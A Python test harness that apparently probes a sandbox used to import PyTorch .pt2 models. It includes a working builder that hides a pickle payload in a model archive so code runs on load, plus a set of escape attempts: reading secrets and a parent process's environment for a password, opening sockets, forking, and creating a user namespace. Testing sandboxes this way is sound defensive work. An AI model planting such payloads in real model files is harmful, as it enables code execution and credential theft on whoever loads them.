"""Models that attack whoever loads them, and a run of one for a process that is set up apart."""

from __future__ import annotations

import json
import pickle
import sys
import zipfile
from pathlib import Path
from typing import Any

from workers.graph.importers.sandbox import SandboxLimits, sandboxed

FINDINGS = "findings.json"
CONSTANTS = "data/constants/model_constants_config.json"

# Each attack is a function of the targets; what it returns is what it got hold of.
ATTACKS = """
import ctypes, json, os, socket, subprocess, sys
from pathlib import Path


def overwrite_code(targets):
    return os.open(targets["code"], os.O_WRONLY)


def write_outside(targets):
    return Path(targets["outside"], "proof").write_text("written")


def read_a_secret(targets):
    return Path(targets["outside"], "secret").read_text()


def list_the_hidden_folder(targets):
    return os.listdir(targets["hidden"])


def read_the_starters_environment(targets):
    text = Path("/proc", str(targets["starter"]), "environ").read_bytes()
    return text.index(b"PLAIT_PASSWORD=")


def signal_the_starter(targets):
    return os.kill(targets["starter"], 0) or "could signal"


def connect(family, address):
    with socket.socket(family) as found:
        found.settimeout(5)
        return found.connect(address) or "connected"


def connect_over_tcp(targets):
    return connect(socket.AF_INET, ("127.0.0.1", targets["port"]))


def connect_to_the_hidden_socket(targets):
    return connect(socket.AF_UNIX, targets["socket"])


def connect_to_an_abstract_socket(targets):
    return connect(socket.AF_UNIX, "\\0" + targets["abstract"])


def start_a_process(targets):
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)


def start_a_program(targets):
    return subprocess.run(["/bin/true"], check=True).returncode


def become_root_again(targets):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000):
        raise OSError(ctypes.get_errno(), "unshare")
    return "a new user namespace"


def attempt(attack, targets):
    try:
        return {"got": repr(attack(targets))}
    except BaseException as error:
        return {"error": f"{type(error).__name__}: {error}"}


def attack_all(targets):
    attacks = [
        overwrite_code, write_outside, read_a_secret, list_the_hidden_folder,
        read_the_starters_environment, signal_the_starter, connect_over_tcp,
        connect_to_the_hidden_socket, connect_to_an_abstract_socket, start_a_process,
        start_a_program, become_root_again,
    ]
    findings = {attack.__name__: attempt(attack, targets) for attack in attacks}
    findings["environment"] = dict(os.environ)
    Path(os.environ["TMPDIR"], "findings.json").write_text(json.dumps(findings))
"""


def attacking(targets: dict[str, Any]) -> str:
    """Code that tries everything on the targets and writes down in TMPDIR what it got."""
    return f"{ATTACKS}\nattack_all({targets!r})\n"


def answering(code: str, result: str) -> str:
    """``code``, and then an end that looks like an import's, with ``result`` as its result."""
    leave = f'Path(os.environ["TMPDIR"], "result.json").write_text({result!r})\nos._exit(0)\n'
    return f"import os\nfrom pathlib import Path\n{code}\n{leave}"


class _Payload:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return eval, (f"[exec({self.code!r}, {{}}), __import__('torch').zeros(1)][1]",)


def infect(innocent: Path, infected: Path, code: str) -> Path:
    """Copy a .pt2 file with a constant added that runs ``code`` when torch.export.load reads it."""
    config = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True}
    with zipfile.ZipFile(innocent) as source, zipfile.ZipFile(infected, "w") as target:
        for entry in source.infolist():
            folder = entry.filename.partition("/")[0]
            content = source.read(entry)
            if entry.filename == f"{folder}/{CONSTANTS}":
                content = json.dumps({"config": {"x": {**config, "tensor_meta": None}}}).encode()
            target.writestr(entry.filename, content)
        target.writestr(f"{folder}/data/constants/opaque_obj_0", pickle.dumps(_Payload(code)))
    return infected


def attack_from_sandbox(
    model: Path, workdir: Path, hidden: Path
) -> tuple[tuple[str, ...], dict[str, Any]]:
    """The layers in force, and what the attacking ``model`` wrote down."""
    limits = SandboxLimits(memory_bytes=4 << 30, seconds=60, hidden=(hidden,))
    sizes = {"batch_size": 2, "sequence_length": None}
    request = {"task": "import", **sizes, "zoo": None, "format": "pt2"}
    with sandboxed(request, model, workdir, limits) as answer:
        return answer.isolation, json.loads((answer.scratch / FINDINGS).read_text())


if __name__ == "__main__":
    json.dump(attack_from_sandbox(*map(Path, sys.argv[1:])), sys.stdout)
